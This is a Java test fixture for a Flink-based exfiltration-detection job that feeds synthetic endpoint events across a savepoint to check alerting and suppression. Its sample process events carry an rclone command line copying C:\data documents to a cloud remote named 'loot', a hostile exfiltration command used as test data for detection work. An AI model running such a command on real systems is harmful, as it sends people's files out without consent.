package exfilwatch.job;

import exfilwatch.alert.Alert;
import exfilwatch.alert.RiskWeights;
import exfilwatch.detection.DetectionContent;
import exfilwatch.job.config.SuppressionConfig;
import exfilwatch.telemetry.Connection;
import exfilwatch.telemetry.Direction;
import exfilwatch.telemetry.Event;
import exfilwatch.telemetry.EventKind;
import exfilwatch.telemetry.Host;
import exfilwatch.telemetry.ProcessInfo;
import exfilwatch.telemetry.User;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import org.apache.flink.api.common.eventtime.Watermark;
import org.apache.flink.api.common.eventtime.WatermarkGenerator;
import org.apache.flink.api.common.eventtime.WatermarkOutput;
import org.apache.flink.api.common.eventtime.WatermarkStrategy;
import org.apache.flink.api.common.typeinfo.TypeInformation;
import org.apache.flink.api.connector.sink2.Sink;
import org.apache.flink.api.connector.sink2.SinkWriter;
import org.apache.flink.api.connector.sink2.WriterInitContext;
import org.apache.flink.api.connector.source.util.ratelimit.RateLimiterStrategy;
import org.apache.flink.connector.datagen.source.DataGeneratorSource;
import org.apache.flink.streaming.api.environment.StreamExecutionEnvironment;

/** Events with a savepoint in their middle, when there is state of every kind. */
final class SavepointScene {

  /** Its start is the last event before the savepoint. */
  static final String LAST_HOST = "ws-last";

  private static final long T0 = 1_700_000_000_000L;
  private static final long MINUTE_MS = 60_000;
  private static final int STORM = 12;

  private static final List<Event> BEFORE = new ArrayList<>();
  private static final List<Event> AFTER = new ArrayList<>();

  static {
    // More than a storm, long before: those that it silenced are still open
    for (int i = 0; i < STORM + 4; i++) {
      BEFORE.add(start("ws-storm-" + i, 100 + i, -3000 + i * 4));
    }
    // A start that waits for its connection, in the pattern too
    BEFORE.add(start("ws-1", 11, 0));
    AFTER.add(connection("ws-1", 11, 150));
    AFTER.add(end("ws-1", 11, 200));
    // One that has connected, and connects again
    BEFORE.add(start("ws-2", 12, 1));
    BEFORE.add(connection("ws-2", 12, 5));
    AFTER.add(connection("ws-2", 12, 160));
    AFTER.add(end("ws-2", 12, 210));
    // A connection that the gate holds back until the start comes
    BEFORE.add(connection("ws-3", 13, 118));
    AFTER.add(start("ws-3", 13, 117));
    AFTER.add(end("ws-3", 13, 220));
    // One of those alike is told, others are counted
    for (int i = 0; i < 3; i++) {
      List<Event> side = i < 2 ? BEFORE : AFTER;
      side.add(start("ws-4", 40 + i, i < 2 ? 10 + i : 230));
      side.add(end("ws-4", 40 + i, i < 2 ? 11 + i : 231));
    }
    BEFORE.add(start("ws-plain", 7, 119, "notepad.exe", "notepad.exe a.txt"));
    BEFORE.add(start(LAST_HOST, 99, -600));
    AFTER.add(end(LAST_HOST, 99, 240));
  }

  static final int FIRST = BEFORE.size();

  private SavepointScene() {}

  static int all() {
    return BEFORE.size() + AFTER.size();
  }

  private static Decoded event(long index) {
    int i = (int) index;
    return Decoded.of(i < FIRST ? BEFORE.get(i) : AFTER.get(i - FIRST));
  }

  /** The job around the graph. */
  static final class Play {

    static final Queue<Alert> TOLD = new ConcurrentLinkedQueue<>();

    private Play() {}

    /**
     * Adds the job to {@code env}.
     *
     * @param atOnce so many events come, the rest after a checkpoint
     */
    static void define(StreamExecutionEnvironment env, DetectionContent content, int atOnce) {
      DataGeneratorSource<Decoded> source =
          new DataGeneratorSource<>(
              SavepointScene::event,
              all(),
              atOnce == all()
                  ? RateLimiterStrategy.noOp()
                  : RateLimiterStrategy.perCheckpoint(atOnce),
              TypeInformation.of(Decoded.class));
      GraphSettings settings =
          new GraphSettings(
              false,
              Duration.ofMinutes(1),
              Duration.ofHours(1),
              Duration.ofDays(7),
              new SuppressionConfig(
                  Duration.ofHours(1), Duration.ofDays(1), STORM, Duration.ofMinutes(5)),
              RiskWeights.DEFAULT);
      DetectionGraph.build(
              env.fromSource(
                      source,
                      WatermarkStrategy.<Decoded>forGenerator(context -> new AfterEveryEvent())
                          .withTimestampAssigner((decoded, time) -> EventTime.timeOf(decoded)),
                      "telemetry")
                  .uid("telemetry")
                  .setParallelism(1),
              content,
              settings)
          .alerts()
          .sinkTo(new Collect())
          .uid("alerts");
    }
  }

  /** So that what happens between two events doesn't depend on the speed of the machine. */
  private static final class AfterEveryEvent implements WatermarkGenerator<Decoded> {

    private long newest = Long.MIN_VALUE + MINUTE_MS;

    @Override
    public void onEvent(Decoded event, long time, WatermarkOutput output) {
      newest = Math.max(newest, time);
      output.emitWatermark(new Watermark(newest - MINUTE_MS));
    }

    @Override
    public void onPeriodicEmit(WatermarkOutput output) {}
  }

  private static final class Collect implements Sink<Alert> {

    private static final long serialVersionUID = 1;

    @Override
    public SinkWriter<Alert> createWriter(WriterInitContext context) {
      return new SinkWriter<>() {
        @Override
        public void write(Alert alert, Context context) {
          Play.TOLD.add(alert);
        }

        @Override
        public void flush(boolean endOfInput) {}

        @Override
        public void close() {}
      };
    }
  }

  private static Event start(String host, long pid, double seconds) {
    return start(
        host, pid, seconds, "rclone.exe", "rclone.exe copy C:\\data mega:loot --include *.docx");
  }

  private static Event start(
      String host, long pid, double seconds, String name, String commandLine) {
    return event(EventKind.PROCESS_START, host, pid, seconds, name, commandLine, null);
  }

  private static Event end(String host, long pid, double seconds) {
    return event(EventKind.PROCESS_END, host, pid, seconds, "rclone.exe", null, null);
  }

  private static Event connection(String host, long pid, double seconds) {
    Connection connection =
        new Connection(
            Direction.OUTBOUND,
            "tcp",
            "192.0.2.7",
            50_000,
            "203.0.113.5",
            443,
            null,
            -1,
            -1,
            false);
    return event(EventKind.CONNECTION, host, pid, seconds, "rclone.exe", null, connection);
  }

  private static Event event(
      EventKind kind,
      String host,
      long pid,
      double seconds,
      String name,
      String commandLine,
      Connection connection) {
    return new Event(
        kind,
        "endpoint",
        null,
        T0 + (long) (seconds * 1000),
        new Host(host, null, "windows"),
        new ProcessInfo(
            host + pid, pid, 0, name, "C:\\t\\" + name, commandLine, null, null, null, null, null),
        null,
        new User("jdoe", "EXAMPLE", null),
        connection,
        null);
  }
}
